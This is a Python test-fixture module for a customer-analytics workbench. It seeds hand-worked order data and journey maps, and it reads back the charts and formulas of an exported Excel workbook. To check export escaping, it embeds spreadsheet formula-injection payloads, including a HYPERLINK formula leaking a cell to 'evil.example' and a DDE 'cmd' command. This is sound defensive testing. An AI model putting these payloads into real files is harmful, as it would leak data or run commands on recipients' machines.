"""A small workspace whose report figures are worked out by hand, with hostile text in customer ids,
journey cells and initiative names; and readers of a written workbook (sheets, charts)."""

from __future__ import annotations

import re
import zipfile
from dataclasses import replace
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest

from workbench import journey, roadmap
from workbench.segments import display

# Spreadsheet formula injection (OWASP's CSV-injection examples and the issue's): none may become a formula.
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(A1:A9)"
TAB_LED = "\t=1+1"

# Five customers, eight orders, all in 2024 (revenue 500):
#   A      300  (3 orders on 3 days)        cumulative share before: 0    → key
#   B      100  (2 orders on 2 days)                                  0.60 → key
#   HYPER   60  (1)                                                   0.80 → ordinary (not below 80%)
#   D       30  (1)                                                   0.92 → ordinary
#   -2+3    10  (1)                                                   0.98 → small
# KPIs over the page's default period (the last 365 days of data, 2024-01-10 .. 2024-12-31, all orders):
# 5 active customers, 8 orders, revenue 500, AOV 62.50, ARPU 100, repurchase rate 2/5 = 40% (A and B).
ORDERS = pd.DataFrame({
    "order_id": [f"o{i}" for i in range(8)],
    "customer_id": ["A", "A", "A", "B", "B", HYPERLINK, "D", "-2+3"],
    "order_ts": pd.to_datetime(["2024-01-10", "2024-06-01", "2024-12-20", "2024-03-01", "2024-11-15", "2024-05-05",
                                "2024-08-08", "2024-12-31"]),
    "amount": [100.0, 100, 100, 50, 50, 60, 30, 10],
    "channel": ["门店"] * 8,
    "city": ["上海"] * 8,
})

PYRAMID = {"key": (2, 400.0), "ordinary": (2, 90.0), "small": (1, 10.0), "negative": (0, 0.0)}


def _hostile_map(ws) -> int:
    """A journey map whose name, a stage name, cells and persona carry formula-looking text."""
    map_id = journey.create_map(ws, "=cmd|'/c calc'!A0", "en")
    m = journey.load_map(ws, map_id)
    s1, s2, s3, s4, s5 = (s.stage_id for s in m.stages)
    m = journey.set_cell(m, s1, "touchpoints", [HYPERLINK])
    m = journey.set_cell(m, s2, "pain_points", [CMD, AT_SUM])
    m = journey.set_cell(m, s3, "thoughts", ["-1 star, would not return"])
    m = journey.rename_stage(m, s4, "=1+1")
    for stage, as_is, to_be in ((s1, -2, 1), (s2, -1, 1), (s3, 0, 1), (s4, 1.5, 2), (s5, None, 2)):
        m = journey.set_emotion(m, stage, as_is, to_be)
    m = replace(m, persona=journey.Persona(name=AT_SUM, goals="=1+2"), segmentation="pyramid", segment="key")
    journey.save_map(ws, m)
    return map_id


@pytest.fixture
def report_ws(make_workspace):
    """The workspace above with a hostile journey map and three initiatives (segment, pain point, by hand)."""
    ws = make_workspace("shop", orders=ORDERS)
    map_id = _hostile_map(ws)
    profile = display.profile_of(ws, "pyramid", "en")
    roadmap.create_initiative(ws, **display.initiative_fields(profile, "pyramid", "key", "en"))
    m = journey.load_map(ws, map_id)
    stage_id, _, item = next(a for a in journey.actionable_items(m) if a[2].text == CMD)
    roadmap.create_initiative(ws, **journey.initiative_fields(m, stage_id, item.item_id))
    roadmap.create_initiative(ws, HYPERLINK, owner=TAB_LED, target_segment=CMD)
    return ws


def chart_types(path: Path) -> dict[str, list[str]]:
    """The native charts of each sheet, read from the file's parts: sheet → drawing → chart → plot type."""
    with zipfile.ZipFile(path) as z:
        names = set(z.namelist())

        def norm(folder: str, target: str) -> str:
            parts = []
            for piece in f"{folder}/{target}".split("/"):
                if piece == "..":
                    parts.pop()
                elif piece and piece != ".":
                    parts.append(piece)
            return "/".join(parts)

        workbook = z.read("xl/workbook.xml").decode()
        wb_rels = {rid: norm("xl", t) for rid, t in
                   re.findall(r'Id="([^"]+)"[^>]*Target="([^"]+)"', z.read("xl/_rels/workbook.xml.rels").decode())}
        found: dict[str, list[str]] = {}
        for name, rid in re.findall(r'<sheet name="([^"]+)" sheetId="\d+" r:id="([^"]+)"', workbook):
            sheet_part = wb_rels[rid]
            sheet_dir = sheet_part.rsplit("/", 1)[0]
            sheet_rel = f"{sheet_dir}/_rels/{sheet_part.rsplit('/', 1)[1]}.rels"
            types: list[str] = []
            if sheet_rel in names:
                for target in re.findall(r'Target="([^"]+drawing\d+\.xml)"', z.read(sheet_rel).decode()):
                    drawing = norm(sheet_dir, target)
                    drawing_rel = drawing.replace("drawings/", "drawings/_rels/") + ".rels"
                    for chart in re.findall(r'Target="([^"]+chart\d+\.xml)"', z.read(drawing_rel).decode()):
                        xml = z.read(norm(drawing.rsplit("/", 1)[0], chart)).decode()
                        types += re.findall(r"<c:(barChart|lineChart|scatterChart|pieChart)>", xml)
            found[_unescape(name)] = types
        return found


def _unescape(text: str) -> str:
    return (text.replace("&quot;", '"').replace("&apos;", "'").replace("&lt;", "<").replace("&gt;", ">")
            .replace("&amp;", "&"))


def formulas(path: Path) -> list[str]:
    """Every formula in the workbook's sheets."""
    with zipfile.ZipFile(path) as z:
        return [f for n in z.namelist() if re.match(r"xl/worksheets/sheet\d+\.xml$", n)
                for f in re.findall(r"<f>([^<]*)</f>", z.read(n).decode())]


@pytest.fixture
def rx():
    """What the report tests compare against: the hostile texts, the hand-worked pyramid, and the readers."""
    return SimpleNamespace(HYPERLINK=HYPERLINK, CMD=CMD, AT_SUM=AT_SUM, TAB_LED=TAB_LED, PYRAMID=PYRAMID,
                           chart_types=chart_types, formulas=formulas)
